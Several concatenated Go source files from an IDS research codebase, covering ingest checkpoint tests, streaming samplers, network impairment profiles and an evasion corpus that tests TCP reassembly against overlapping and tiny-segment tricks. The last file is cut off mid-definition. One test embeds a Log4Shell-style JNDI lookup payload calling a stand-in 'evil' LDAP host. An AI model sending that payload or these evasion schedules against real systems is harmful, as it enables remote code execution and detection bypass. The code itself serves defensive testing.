	if err != nil {
		t.Fatal(err)
	}
	ckpt := filepath.Join(storeDir, "INGEST-dscope")
	deadline := time.Now().Add(10 * time.Second)
	for {
		if b, err := os.ReadFile(ckpt); err == nil && len(b) > 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("no checkpoint written while running; only Close persists it")
		}
		time.Sleep(2 * time.Millisecond)
	}
	// The mid-run checkpoint must be exact: a pipeline resumed from it (as
	// after a crash) ingests nothing it already stored.
	if err := p.Close(); err != nil {
		t.Fatal(err)
	}
	before := store.Snapshot().Len()
	if before == 0 {
		t.Fatal("nothing stored")
	}
	p2, err := Start(Config{
		Dir: watch, Engine: testEngine(t), Store: store,
		PollInterval: 2 * time.Millisecond, FlushIdle: 10 * time.Millisecond,
	})
	if err != nil {
		t.Fatal(err)
	}
	if err := p2.Close(); err != nil {
		t.Fatal(err)
	}
	if after := store.Snapshot().Len(); after != before {
		t.Fatalf("resume re-ingested: %d -> %d events", before, after)
	}
}

func TestStartValidation(t *testing.T) {
	store, err := eventstore.Open(t.TempDir(), eventstore.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer store.Close()
	if _, err := Start(Config{Dir: t.TempDir()}); err == nil {
		t.Error("missing engine/store accepted")
	}
	if _, err := Start(Config{Engine: testEngine(t), Store: store}); err == nil {
		t.Error("missing dir accepted")
	}
	if _, err := Start(Config{Dir: "/does/not/exist", Engine: testEngine(t), Store: store}); err == nil {
		t.Error("nonexistent dir accepted")
	}
}
