package netsim

import (
	"math"
	"math/rand"
	"net/netip"
	"time"
)

// Streaming samplers: the temporal processes of this package, emitted as
// ascending sequences in O(1) memory instead of one materialized slice.
//
// The trick is the classic sequential order-statistics recurrence: given the
// (k-1)-th smallest of n Uniform(0,1) draws, the k-th smallest is
//
//	V_k = 1 − (1 − V_{k−1}) · U^(1/m)
//
// for fresh uniform U and m values remaining, because the m not-yet-emitted
// values are i.i.d. Uniform(V_{k−1}, 1). Any continuous distribution then
// streams in sorted order by pushing the uniform quantiles through its
// inverse CDF. This is what lets a paper-scale workload generate lazily —
// per-campaign state is a few words regardless of event count.

// OrderedUniforms emits the ascending order statistics of n Uniform(0,1)
// draws, one per Next call, using constant memory and exactly one rng draw
// per emitted value.
type OrderedUniforms struct {
	rng  *rand.Rand
	m    int // values not yet emitted
	last float64
}

// NewOrderedUniforms returns a stream of n ascending uniforms drawn from rng.
func NewOrderedUniforms(rng *rand.Rand, n int) *OrderedUniforms {
	return &OrderedUniforms{rng: rng, m: n}
}

// Next returns the next order statistic, or false when all n are emitted.
func (o *OrderedUniforms) Next() (float64, bool) {
	if o.m <= 0 {
		return 0, false
	}
	o.last = 1 - (1-o.last)*math.Pow(o.rng.Float64(), 1/float64(o.m))
	o.m--
	return o.last, true
}

// Remaining reports how many values are left to emit.
func (o *OrderedUniforms) Remaining() int { return o.m }

// UniformTimes emits n ascending times uniformly distributed over
// [start, end) in constant memory.
type UniformTimes struct {
	ou    OrderedUniforms
	start time.Time
	span  float64 // nanoseconds
}

// NewUniformTimes returns the stream. A non-positive window emits every
// event at start.
func NewUniformTimes(rng *rand.Rand, start, end time.Time, n int) *UniformTimes {
	span := float64(end.Sub(start))
	if span < 0 {
		span = 0
	}
	return &UniformTimes{ou: OrderedUniforms{rng: rng, m: n}, start: start, span: span}
}

// Next returns the next time, or false when exhausted.
func (u *UniformTimes) Next() (time.Time, bool) {
	q, ok := u.ou.Next()
	if !ok {
		return time.Time{}, false
	}
	return u.start.Add(time.Duration(q * u.span)), true
}

// TimeStream emits one campaign's event times in ascending order with
// constant memory: the pinned first event, then a merge of two sorted
// component streams — the truncated-exponential post-announcement burst and
// the power-shaped sustained tail — each generated through the
// order-statistics recurrence in quantile space. The component sizes are
// fixed up front by n−1 Bernoulli(BurstWeight) draws, so the stream emits
// exactly n events with the same mixture the materializing sampler uses.
type TimeStream struct {
	remaining int
	first     time.Time
	firstDone bool

	burst     OrderedUniforms
	burstNext time.Time
	burstOK   bool
	tail      OrderedUniforms
	tailNext  time.Time
	tailOK    bool

	burstStart time.Time
	burstSpan  float64 // ns
	burstMean  float64 // ns
	burstTrunc float64 // 1 − e^(−span/mean), the truncation mass
	start      time.Time
	span       float64 // ns
	tailPower  float64
}

// Stream returns the lazy counterpart of Sample: n ascending event times,
// the first exactly at c.First. The rng must be dedicated to this campaign.
func (c CampaignTimes) Stream(rng *rand.Rand, n int) *TimeStream {
	c = c.withDefaults()
	ts := &TimeStream{remaining: n, first: c.First, tailPower: c.TailPower}
	if n <= 0 {
		return ts
	}
	ts.start = c.First
	span := c.End.Sub(c.First)
	if span <= 0 {
		// Degenerate window: every event at the first instant.
		return ts
	}
	ts.span = float64(span)
	burstStart := c.BurstStart
	if burstStart.IsZero() || burstStart.Before(c.First) {
		burstStart = c.First
	}
	ts.burstStart = burstStart
	burstSpan := c.End.Sub(burstStart)
	nBurst := 0
	if burstSpan > 0 {
		ts.burstSpan = float64(burstSpan)
		ts.burstMean = float64(c.BurstMean)
		ts.burstTrunc = 1 - math.Exp(-ts.burstSpan/ts.burstMean)
		for i := 1; i < n; i++ {
			if rng.Float64() < c.BurstWeight {
				nBurst++
			}
		}
	}
	ts.burst = OrderedUniforms{rng: rng, m: nBurst}
	ts.tail = OrderedUniforms{rng: rng, m: n - 1 - nBurst}
	ts.refillBurst()
	ts.refillTail()
	return ts
}

func (t *TimeStream) refillBurst() {
	q, ok := t.burst.Next()
	t.burstOK = ok
	if !ok {
		return
	}
	// Inverse CDF of the exponential truncated to [0, burstSpan]:
	// F⁻¹(q) = −mean · ln(1 − q·(1 − e^(−span/mean))).
	off := -t.burstMean * math.Log(1-q*t.burstTrunc)
	if off < 0 {
		off = 0
	}
	if off > t.burstSpan || math.IsInf(off, 1) || math.IsNaN(off) {
		off = t.burstSpan
	}
	t.burstNext = t.burstStart.Add(time.Duration(off))
}

func (t *TimeStream) refillTail() {
	q, ok := t.tail.Next()
	t.tailOK = ok
	if !ok {
		return
	}
	// Tail density ∝ x^(p−1): CDF (x/span)^p, inverse span·q^(1/p).
	if t.tailPower != 1 {
		q = math.Pow(q, 1/t.tailPower)
	}
	t.tailNext = t.start.Add(time.Duration(q * t.span))
}

// Next returns the next event time, or false after n events.
func (t *TimeStream) Next() (time.Time, bool) {
	if t.remaining <= 0 {
		return time.Time{}, false
	}
	t.remaining--
	if !t.firstDone {
		t.firstDone = true
		return t.first, true
	}
	if t.span == 0 {
		// Degenerate window.
		return t.first, true
	}
	switch {
	case t.burstOK && (!t.tailOK || !t.tailNext.Before(t.burstNext)):
		out := t.burstNext
		t.refillBurst()
		return out, true
	case t.tailOK:
		out := t.tailNext
		t.refillTail()
		return out, true
	default:
		// Component streams exhausted but remaining > 0 cannot happen: the
		// component sizes sum to n−1 by construction.
		return t.first, true
	}
}

// Remaining reports how many events are left to emit.
func (t *TimeStream) Remaining() int { return t.remaining }

// PickWith returns a pseudorandom member of the population drawn from the
// caller's rng instead of the population's own — what lets independent
// campaign streams share one source population without coupling their
// random sequences.
func (s *Sources) PickWith(rng *rand.Rand) netip.Addr {
	return s.addrs[rng.Intn(len(s.addrs))]
}
