package netsim

import (
	"bytes"
	"io"
	"testing"
	"time"

	"repro/internal/packet"
	"repro/internal/pcapio"
)

var (
	evAttack = []byte("GET /?x=${jndi:ldap://evil/a} HTTP/1.1\r\n\r\n")
	evDecoy  = benignTwin(evAttack)
	evStart  = time.Date(2022, 1, 5, 10, 0, 0, 0, time.UTC)
)

// benignTwin derives an equally long, signature-free request from the attack
// by overwriting the query with static-asset padding.
func benignTwin(attack []byte) []byte {
	d := append([]byte(nil), attack...)
	for i := len("GET /"); i < len(d)-len(" HTTP/1.1\r\n\r\n"); i++ {
		d[i] = 'a' + byte(i%26)
	}
	return d
}

func evasionCorpus(t testing.TB) []EvasionCase {
	t.Helper()
	cases, err := EvasionCases(evAttack, evDecoy, 12, 10*time.Minute)
	if err != nil {
		t.Fatal(err)
	}
	return cases
}

func TestEvasionCasesValidation(t *testing.T) {
	if _, err := EvasionCases([]byte("short"), []byte("short"), 2, time.Minute); err == nil {
		t.Error("accepted a too-short attack payload")
	}
	if _, err := EvasionCases(evAttack, evDecoy[:10], 5, time.Minute); err == nil {
		t.Error("accepted mismatched payload lengths")
	}
	if _, err := EvasionCases(evAttack, evDecoy, 0, time.Minute); err == nil {
		t.Error("accepted a boundary outside the payload")
	}
	if _, err := EvasionCases(evAttack, evDecoy, 5, time.Millisecond); err == nil {
		t.Error("accepted a sub-second idle horizon")
	}
	cases := evasionCorpus(t)
	if len(cases) < 8 {
		t.Fatalf("corpus has %d cases, want at least 8", len(cases))
	}
	ambiguous := 0
	names := map[string]bool{}
	for _, c := range cases {
		if c.Name == "" || c.Info == "" {
			t.Errorf("case %+v lacks name or info", c)
		}
		if names[c.Name] {
			t.Errorf("duplicate case name %q", c.Name)
		}
		names[c.Name] = true
		if c.ExpectAmbiguous {
			ambiguous++
		}
	}
	if ambiguous < 2 {
		t.Errorf("only %d cases expect ambiguity; the conflicting-overlap primitives are missing", ambiguous)
	}
}

// TestEvasionStreamPcapParity: the lazy blueprint and the materialized pcap
// must agree frame for frame — timestamps and bytes — for every case, both
// schedules.
func TestEvasionStreamPcapParity(t *testing.T) {
	cases := evasionCorpus(t)
	for i := range cases {
		c := &cases[i]
		t.Run(c.Name, func(t *testing.T) {
			client, server := EvasionEndpoints(42, i)
			for _, sched := range []struct {
				name   string
				stream func() *ScheduleSource
				pcap   func(w *bytes.Buffer) error
			}{
				{"evasion",
					func() *ScheduleSource { return c.Stream(42, client, server, evStart) },
					func(w *bytes.Buffer) error { return c.WritePcap(w, 42, client, server, evStart) }},
				{"baseline",
					func() *ScheduleSource { return c.BaselineStream(42, client, server, evStart) },
					func(w *bytes.Buffer) error { return c.WriteBaselinePcap(w, 42, client, server, evStart) }},
			} {
				var buf bytes.Buffer
				if err := sched.pcap(&buf); err != nil {
					t.Fatal(err)
				}
				r, err := pcapio.NewReader(bytes.NewReader(buf.Bytes()))
				if err != nil {
					t.Fatal(err)
				}
				src := sched.stream()
				n := 0
				for {
					want, werr := src.Next()
					got, gerr := r.Next()
					if (werr == io.EOF) != (gerr == io.EOF) {
						t.Fatalf("%s: stream and pcap end at different frames (%v vs %v)", sched.name, werr, gerr)
					}
					if werr == io.EOF {
						break
					}
					if werr != nil || gerr != nil {
						t.Fatal(werr, gerr)
					}
					if !got.Timestamp.Equal(want.Timestamp) || !bytes.Equal(got.Data, want.Data) {
						t.Fatalf("%s: frame %d differs between stream and pcap", sched.name, n)
					}
					n++
				}
				if n < 5 {
					t.Fatalf("%s: schedule renders only %d frames", sched.name, n)
				}
			}
		})
	}
}

// TestEvasionScheduleDeterminism: equal (case, seed, endpoints, start) must
// render byte-identical schedules; a different seed must move the ISNs.
func TestEvasionScheduleDeterminism(t *testing.T) {
	cases := evasionCorpus(t)
	c := &cases[0]
	client, server := EvasionEndpoints(7, 0)
	render := func(seed int64) []pcapio.Packet {
		var out []pcapio.Packet
		src := c.Stream(seed, client, server, evStart)
		for {
			p, err := src.Next()
			if err == io.EOF {
				return out
			}
			if err != nil {
				t.Fatal(err)
			}
			out = append(out, p)
		}
	}
	a, b := render(3), render(3)
	if len(a) != len(b) {
		t.Fatalf("renders differ in length: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if !bytes.Equal(a[i].Data, b[i].Data) {
			t.Fatalf("frame %d differs across identical renders", i)
		}
	}
	other := render(4)
	if bytes.Equal(a[0].Data, other[0].Data) {
		t.Error("different seeds rendered identical SYNs (ISN not seeded)")
	}
}

// TestEvasionCaptureMerge: the combined capture interleaves every case in
// timestamp order and is itself deterministic.
func TestEvasionCaptureMerge(t *testing.T) {
	cases := evasionCorpus(t)
	all, err := EvasionCapture(cases, 42, evStart)
	if err != nil {
		t.Fatal(err)
	}
	base, err := BaselineCapture(cases, 42, evStart)
	if err != nil {
		t.Fatal(err)
	}
	if len(all) <= len(base) {
		t.Errorf("evasion capture has %d frames, baseline %d; evasion schedules should be busier", len(all), len(base))
	}
	for i := 1; i < len(all); i++ {
		if all[i].Timestamp.Before(all[i-1].Timestamp) {
			t.Fatalf("capture not time-ordered at frame %d", i)
		}
	}
	again, err := EvasionCapture(cases, 42, evStart)
	if err != nil {
		t.Fatal(err)
	}
	if len(again) != len(all) {
		t.Fatalf("re-render changed frame count: %d vs %d", len(again), len(all))
	}
	for i := range all {
		if !bytes.Equal(again[i].Data, all[i].Data) {
			t.Fatalf("re-render changed frame %d", i)
		}
	}
	// Distinct clients per case so the flows shard independently.
	flows := map[packet.Flow]bool{}
	var dec packet.Packet
	for _, f := range all {
		if packet.DecodeInto(&dec, f.Data) == nil {
			flows[dec.Flow().Canonical()] = true
		}
	}
	if len(flows) != len(cases) {
		t.Errorf("combined capture carries %d flows, want %d (one per case)", len(flows), len(cases))
	}
}
