package netsim

import (
	"bytes"
	"strings"
	"testing"
)

func TestSignatureCorpusDeterministic(t *testing.T) {
	cfg := SignatureCorpusConfig{N: 500, Seed: 11}
	a := SignatureCorpus(cfg)
	b := SignatureCorpus(cfg)
	if !bytes.Equal(a, b) {
		t.Fatal("equal configs must write equal bytes")
	}
	c := SignatureCorpus(SignatureCorpusConfig{N: 500, Seed: 12})
	if bytes.Equal(a, c) {
		t.Fatal("different seeds should differ")
	}
}

func TestSignatureCorpusShape(t *testing.T) {
	raw := string(SignatureCorpus(SignatureCorpusConfig{N: 2000, Seed: 3}))
	lines := strings.Split(strings.TrimRight(raw, "\n"), "\n")
	if len(lines) != 4000 {
		t.Fatalf("want 2000 comment+rule pairs, got %d lines", len(lines))
	}
	var never, dated int
	for i := 0; i < len(lines); i += 2 {
		if !strings.HasPrefix(lines[i], "# published: ") {
			t.Fatalf("line %d is not a publication comment: %q", i, lines[i])
		}
		if strings.Contains(lines[i], "never-during-study") {
			never++
		} else {
			dated++
		}
		if !strings.HasPrefix(lines[i+1], "alert tcp ") {
			t.Fatalf("line %d is not a rule: %q", i+1, lines[i+1])
		}
	}
	// ~5% never-during-study; allow generous slack on 2000 draws.
	if never < 40 || never > 250 {
		t.Errorf("never-during-study count %d outside expected band", never)
	}
	if dated == 0 {
		t.Error("no dated rules")
	}
}
