package netsim

import (
	"fmt"
	"io"
	"strconv"
	"strings"
	"time"

	"repro/internal/fault"
	"repro/internal/packet"
	"repro/internal/pcapio"
)

// Impairment profiles: seeded, composable network damage for any capture
// stream. A Profile wraps a pcapio.PacketSource (Impair) and applies loss,
// duplication, bounded reordering, MTU blackholes, and mid-stream aborts
// (injected RSTs) to the frames flowing through it.
//
// Determinism is the whole point, and it is *content-addressed*: every
// per-frame decision is a PRF of (profile seed, frame bytes), not of stream
// position. The same frame meets the same fate no matter which capture
// segment carries it or in what order segments are consumed, so an impaired
// workload replays byte-identically across runs, and the sharded front-end
// sees exactly the frames the serial one does. An exact duplicate of a
// frame is emitted verbatim (copies are never re-impaired), which keeps the
// content-addressing from cascading — a duplicated frame cannot duplicate
// itself again.

// Profile describes one impairment mix. The zero value impairs nothing.
type Profile struct {
	// Seed keys every per-frame decision. Two profiles with different
	// seeds damage a capture in independent ways.
	Seed int64
	// LossProb is the per-frame probability the frame is silently dropped.
	LossProb float64
	// DupProb is the per-frame probability the frame is emitted twice
	// back-to-back (the duplicate is exempt from further impairment).
	DupProb float64
	// ReorderProb is the per-frame probability the frame is held back and
	// released after ReorderSpan subsequent frames.
	ReorderProb float64
	// ReorderSpan is how many later frames overtake a held one. Zero means
	// the default of 3.
	ReorderSpan int
	// MTU, when > 0, black-holes every frame longer than MTU bytes — the
	// path-MTU blackhole, where big segments vanish without an ICMP clue.
	MTU int
	// AbortProb is the per-frame probability the frame is replaced by a
	// mid-stream RST for its flow; every later frame of that flow is
	// dropped (the connection is dead on the wire).
	AbortProb float64
}

func (p Profile) withDefaults() Profile {
	if p.ReorderSpan == 0 {
		p.ReorderSpan = 3
	}
	return p
}

// Active reports whether the profile impairs anything at all.
func (p Profile) Active() bool {
	return p.LossProb > 0 || p.DupProb > 0 || p.ReorderProb > 0 || p.MTU > 0 || p.AbortProb > 0
}

// NetProfile maps the frame-level profile onto the fault package's
// connection-level fault schedule, so one impairment spec drives both the
// capture path (Impair) and live fleet links (fault.NewNetwork): aborts
// become byte-budget resets, reordering becomes write delay jitter.
func (p Profile) NetProfile() fault.NetProfile {
	p = p.withDefaults()
	np := fault.NetProfile{ResetProb: p.AbortProb}
	if p.ReorderProb > 0 {
		np.MaxDelay = time.Duration(p.ReorderSpan) * time.Millisecond
	}
	return np
}

// String renders the profile in ParseProfile's spec syntax.
func (p Profile) String() string {
	var parts []string
	add := func(k string, v float64) {
		if v > 0 {
			parts = append(parts, fmt.Sprintf("%s=%g", k, v))
		}
	}
	add("loss", p.LossProb)
	add("dup", p.DupProb)
	add("reorder", p.ReorderProb)
	if p.ReorderSpan > 0 && p.ReorderSpan != 3 {
		parts = append(parts, fmt.Sprintf("span=%d", p.ReorderSpan))
	}
	if p.MTU > 0 {
		parts = append(parts, fmt.Sprintf("mtu=%d", p.MTU))
	}
	add("abort", p.AbortProb)
	if p.Seed != 0 {
		parts = append(parts, fmt.Sprintf("seed=%d", p.Seed))
	}
	if len(parts) == 0 {
		return "none"
	}
	return strings.Join(parts, ",")
}

// ParseProfile parses a comma-separated impairment spec, e.g.
// "loss=0.01,dup=0.02,reorder=0.05,span=4,mtu=1400,abort=0.001,seed=7".
// An empty spec (or "none") is the inactive zero Profile.
func ParseProfile(spec string) (Profile, error) {
	var p Profile
	spec = strings.TrimSpace(spec)
	if spec == "" || spec == "none" {
		return p, nil
	}
	for _, kv := range strings.Split(spec, ",") {
		k, v, ok := strings.Cut(strings.TrimSpace(kv), "=")
		if !ok {
			return p, fmt.Errorf("netsim: impairment spec %q: want key=value", kv)
		}
		var err error
		switch k {
		case "loss":
			p.LossProb, err = parseProb(v)
		case "dup":
			p.DupProb, err = parseProb(v)
		case "reorder":
			p.ReorderProb, err = parseProb(v)
		case "abort":
			p.AbortProb, err = parseProb(v)
		case "span":
			p.ReorderSpan, err = strconv.Atoi(v)
		case "mtu":
			p.MTU, err = strconv.Atoi(v)
		case "seed":
			p.Seed, err = strconv.ParseInt(v, 10, 64)
		default:
			return p, fmt.Errorf("netsim: impairment spec: unknown key %q", k)
		}
		if err != nil {
			return p, fmt.Errorf("netsim: impairment spec %q: %w", kv, err)
		}
	}
	return p, nil
}

func parseProb(s string) (float64, error) {
	f, err := strconv.ParseFloat(s, 64)
	if err != nil {
		return 0, err
	}
	if f < 0 || f > 1 {
		return 0, fmt.Errorf("probability %g outside [0,1]", f)
	}
	return f, nil
}

// Decision kinds — PRF tweaks so one frame's rolls are independent.
const (
	rollLoss uint64 = iota + 1
	rollDup
	rollReorder
	rollAbort
)

// roll is the per-frame PRF: an FNV-1a hash of (seed, kind, frame bytes)
// mapped to [0,1). Content-addressed, so a frame's fate is independent of
// stream position, segment assignment, and consumption order.
func (p Profile) roll(kind uint64, frame []byte) float64 {
	const (
		offset64 = 14695981039346656037
		prime64  = 1099511628211
	)
	h := uint64(offset64)
	mix := func(v uint64) {
		for i := 0; i < 8; i++ {
			h ^= v & 0xff
			h *= prime64
			v >>= 8
		}
	}
	mix(uint64(p.Seed))
	mix(kind)
	for _, b := range frame {
		h ^= uint64(b)
		h *= prime64
	}
	return float64(h>>11) / (1 << 53)
}

// ImpairStats counts what a profile did to a stream.
type ImpairStats struct {
	Read       uint64 // frames pulled from the wrapped source
	Emitted    uint64 // frames handed downstream (incl. dups and RSTs)
	Lost       uint64 // frames dropped by LossProb
	Duplicated uint64 // extra copies emitted
	Reordered  uint64 // frames held and released late
	MTUDropped uint64 // frames black-holed by MTU
	Aborted    uint64 // RSTs injected
	Killed     uint64 // frames dropped because their flow was aborted
}

// ImpairedSource applies a Profile to a wrapped capture source. It
// implements pcapio.PacketSource and pcapio.ZeroCopySource, so it drops
// into every scan path (ids.ScanCapture*, the ingest tailer's segment
// sources, telescope streams).
type ImpairedSource struct {
	src     pcapio.PacketSource
	zc      pcapio.ZeroCopySource
	profile Profile

	queue  []impFrame // ready to emit, FIFO
	held   []impFrame // reordered frames counting down to release
	killed map[packet.Flow]bool
	bld    *packet.Builder
	dec    packet.Packet
	free   [][]byte
	eof    bool

	stats ImpairStats
}

type impFrame struct {
	ts      time.Time
	data    []byte
	origLen int
	after   int // frames still to overtake a held one
}

// Impair wraps src with the profile's seeded damage. An inactive profile
// still works (the wrapper is then a plain pass-through).
func Impair(src pcapio.PacketSource, p Profile) *ImpairedSource {
	s := &ImpairedSource{
		src:     src,
		profile: p.withDefaults(),
		killed:  make(map[packet.Flow]bool),
		bld:     packet.NewBuilder(p.Seed),
	}
	s.zc, _ = src.(pcapio.ZeroCopySource)
	return s
}

// Stats returns what the profile has done so far.
func (s *ImpairedSource) Stats() ImpairStats { return s.stats }

// Next returns the next impaired frame; Data is owned by the caller.
func (s *ImpairedSource) Next() (pcapio.Packet, error) {
	var p pcapio.Packet
	if err := s.NextInto(&p); err != nil {
		return pcapio.Packet{}, err
	}
	p.Data = append([]byte(nil), p.Data...)
	return p, nil
}

// NextInto fills p with the next impaired frame, reusing p.Data's capacity.
func (s *ImpairedSource) NextInto(p *pcapio.Packet) error {
	for len(s.queue) == 0 {
		if err := s.step(); err != nil {
			return err
		}
	}
	f := s.queue[0]
	copy(s.queue, s.queue[1:])
	s.queue = s.queue[:len(s.queue)-1]
	p.Timestamp = f.ts
	p.OrigLen = f.origLen
	if cap(p.Data) >= len(f.data) {
		p.Data = p.Data[:len(f.data)]
	} else {
		p.Data = make([]byte, len(f.data))
	}
	copy(p.Data, f.data)
	s.free = append(s.free, f.data[:0])
	s.stats.Emitted++
	return nil
}

// step pulls one frame from the wrapped source, decides its fate, and moves
// due frames onto the emission queue. At EOF the remaining held frames are
// released in hold order.
func (s *ImpairedSource) step() error {
	if s.eof {
		if len(s.held) == 0 {
			return io.EOF
		}
		s.queue = append(s.queue, s.held...)
		s.held = s.held[:0]
		return nil
	}
	var rec pcapio.Packet
	var err error
	if s.zc != nil {
		rec.Data = s.buf()
		err = s.zc.NextInto(&rec)
	} else {
		rec, err = s.src.Next()
	}
	if err == io.EOF {
		s.eof = true
		return nil
	}
	if err != nil {
		return err
	}
	s.stats.Read++

	// Countdown first: the incoming frame overtakes every held one.
	due := 0
	for i := range s.held {
		s.held[i].after--
		if s.held[i].after <= 0 && due == i {
			due++
		}
	}

	p := s.profile
	emit := true
	duplicate := false
	hold := false
	frame := rec.Data
	switch {
	case s.isKilled(frame):
		s.stats.Killed++
		emit = false
	case p.MTU > 0 && len(frame) > p.MTU:
		s.stats.MTUDropped++
		emit = false
	case p.LossProb > 0 && p.roll(rollLoss, frame) < p.LossProb:
		s.stats.Lost++
		emit = false
	case p.AbortProb > 0 && p.roll(rollAbort, frame) < p.AbortProb && s.abort(rec):
		// abort() queued the RST and killed the flow.
		emit = false
	default:
		if p.ReorderProb > 0 && p.roll(rollReorder, frame) < p.ReorderProb {
			hold = true
			s.stats.Reordered++
		} else if p.DupProb > 0 && p.roll(rollDup, frame) < p.DupProb {
			duplicate = true
			s.stats.Duplicated++
		}
	}
	if emit {
		f := impFrame{ts: rec.Timestamp, data: s.copyBuf(frame), origLen: rec.OrigLen}
		if hold {
			f.after = p.ReorderSpan
			s.held = append(s.held, f)
		} else {
			s.queue = append(s.queue, f)
			if duplicate {
				s.queue = append(s.queue, impFrame{ts: rec.Timestamp, data: s.copyBuf(frame), origLen: rec.OrigLen})
			}
		}
	}
	if due > 0 {
		s.queue = append(s.queue, s.held[:due]...)
		s.held = append(s.held[:0], s.held[due:]...)
	}
	if s.zc != nil {
		s.free = append(s.free, rec.Data[:0])
	}
	return nil
}

// isKilled reports whether the frame belongs to an aborted flow. Frames
// that do not decode belong to no flow.
func (s *ImpairedSource) isKilled(frame []byte) bool {
	if len(s.killed) == 0 {
		return false
	}
	if packet.DecodeInto(&s.dec, frame) != nil {
		return false
	}
	return s.killed[s.dec.Flow().Canonical()]
}

// abort replaces a decodable frame with a mid-stream RST for its flow and
// marks the flow dead. Undecodable frames cannot be aborted (no flow to
// kill); the caller then falls through to the remaining impairments.
func (s *ImpairedSource) abort(rec pcapio.Packet) bool {
	if packet.DecodeInto(&s.dec, rec.Data) != nil {
		return false
	}
	flow := s.dec.Flow()
	// Reset before building: the RST's bytes are then a pure function of
	// (seed, flow, seq) — content-addressed like every other decision —
	// rather than of how many aborts this particular wrapper saw first.
	s.bld.Reset(s.profile.Seed)
	rst, err := s.bld.BuildTo(s.buf(), packet.Segment{
		Src:   flow.Src,
		Dst:   flow.Dst,
		Seq:   s.dec.TCP.Seq,
		Flags: packet.FlagRST,
	})
	if err != nil {
		return false
	}
	s.killed[flow.Canonical()] = true
	s.queue = append(s.queue, impFrame{ts: rec.Timestamp, data: rst, origLen: len(rst)})
	s.stats.Aborted++
	return true
}

func (s *ImpairedSource) buf() []byte {
	if n := len(s.free); n > 0 {
		b := s.free[n-1]
		s.free = s.free[:n-1]
		return b
	}
	return make([]byte, 0, 2048)
}

func (s *ImpairedSource) copyBuf(frame []byte) []byte {
	return append(s.buf(), frame...)
}

// ImpairSources wraps each source with its own state machine under the same
// profile — the multi-segment form. Content-addressed decisions mean the
// per-frame fates are identical to wrapping a concatenation of the sources,
// as long as each flow stays within one source (the flow-disjoint contract).
func ImpairSources(srcs []pcapio.PacketSource, p Profile) []pcapio.PacketSource {
	if !p.Active() {
		return srcs
	}
	out := make([]pcapio.PacketSource, len(srcs))
	for i, src := range srcs {
		out[i] = Impair(src, p)
	}
	return out
}
