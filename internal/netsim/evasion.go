package netsim

import (
	"fmt"
	"io"
	"sort"
	"time"

	"repro/internal/packet"
	"repro/internal/pcapio"
)

// Evasion corpus: segment schedules aimed squarely at the reassembler.
// Every case is one TCP session whose wire schedule tries to desynchronize
// reassembly — conflicting overlapping retransmits, tiny-segment splits
// placed across rule content boundaries, idle-split games, out-of-window
// data — paired with the unimpaired baseline schedule carrying the same
// logical stream. The contract a correct front-end must honor, and the one
// the conformance suite asserts: scanning the evasion schedule yields
// either verdicts byte-identical to the baseline, or a session flagged
// tcpasm Ambiguous — never a silent wrong verdict. Impairments that
// legitimately change what was captured (loss, MTU blackholes, mid-stream
// aborts) live in Profile instead: they alter the session itself, so
// equality against an unimpaired baseline is not the right oracle there.
//
// Cases are emitted in two forms from one resolved schedule: a lazy
// blueprint (Stream, a pcapio.ZeroCopySource that synthesizes each frame on
// demand into the decoder's buffer — the streaming path) and a materialized
// pcap (WritePcap), byte-identical frame for frame.

// EvasionCase is one scripted session against the reassembler.
type EvasionCase struct {
	// Name identifies the case in tables and test output.
	Name string
	// Info says what the trick is and what outcome is expected.
	Info string
	// ExpectAmbiguous: the schedule contains overlapping retransmits with
	// conflicting bytes, so the capture does not uniquely determine the
	// stream — a correct reassembler must flag the session Ambiguous.
	// When false the schedule is merely hostile and the verdict must be
	// byte-identical to the baseline's.
	ExpectAmbiguous bool

	steps []evStep // the evasion schedule (client data plan)
	base  []evStep // the unimpaired baseline schedule
}

// evStep is one client data segment: payload placed at a signed offset into
// the client byte stream (negative = below the ISN window), sent after gap
// (zero = the default frame spacing).
type evStep struct {
	off     int32
	payload []byte
	gap     time.Duration
}

// evFrameGap is the default spacing between scheduled frames.
const evFrameGap = 5 * time.Millisecond

// EvasionCases builds the corpus around attack — a client payload the IDS
// matches — and an equally long benign decoy it must not match. boundary is
// an index interior to the attack's rule-content region, so tiny-segment
// splits land across content boundaries; idle is the reassembler's idle
// timeout, which the idle-split game ducks just under. Payloads are
// referenced, not copied.
func EvasionCases(attack, decoy []byte, boundary int, idle time.Duration) ([]EvasionCase, error) {
	n := len(attack)
	if n < 8 {
		return nil, fmt.Errorf("netsim: evasion attack payload too short (%d bytes)", n)
	}
	if len(decoy) != n {
		return nil, fmt.Errorf("netsim: evasion decoy length %d != attack length %d", len(decoy), n)
	}
	if boundary <= 0 || boundary >= n {
		return nil, fmt.Errorf("netsim: evasion boundary %d outside (0,%d)", boundary, n)
	}
	if idle <= time.Second {
		return nil, fmt.Errorf("netsim: evasion idle timeout %v too short", idle)
	}
	half := n / 2
	base := []evStep{{off: 0, payload: attack}}

	tiny := make([]evStep, 0, n)
	for i := 0; i < n; i++ {
		tiny = append(tiny, evStep{off: int32(i), payload: attack[i : i+1]})
	}
	const chunk = 3
	var reversed []evStep
	for i := 0; i < n; i += chunk {
		end := i + chunk
		if end > n {
			end = n
		}
		reversed = append(reversed, evStep{off: int32(i), payload: attack[i:end]})
	}
	for i, j := 0, len(reversed)-1; i < j; i, j = i+1, j-1 {
		reversed[i], reversed[j] = reversed[j], reversed[i]
	}

	return []EvasionCase{
		{
			Name: "conflicting-retransmit",
			Info: "benign copy first, full retransmit with attack bytes second; " +
				"a first-wins reassembler silently sees only the decoy — must flag ambiguous",
			ExpectAmbiguous: true,
			steps:           []evStep{{off: 0, payload: decoy}, {off: 0, payload: attack}},
			base:            base,
		},
		{
			Name: "conflicting-overlap-pending",
			Info: "attack suffix buffered out-of-order, then a full benign segment fills the hole; " +
				"the drained suffix conflicts with delivered bytes — must flag ambiguous",
			ExpectAmbiguous: true,
			steps:           []evStep{{off: int32(half), payload: attack[half:]}, {off: 0, payload: decoy}},
			base:            base,
		},
		{
			Name: "tiny-segments",
			Info: "one byte per segment, splitting every rule content boundary; " +
				"verdict must equal the baseline",
			steps: tiny,
			base:  base,
		},
		{
			Name: "tiny-segments-reversed",
			Info: "small segments sent in reverse order, all buffered until the stream head arrives; " +
				"verdict must equal the baseline",
			steps: reversed,
			base:  base,
		},
		{
			Name: "exact-duplicate",
			Info: "every segment transmitted twice with identical bytes; agreement is not ambiguity",
			steps: []evStep{
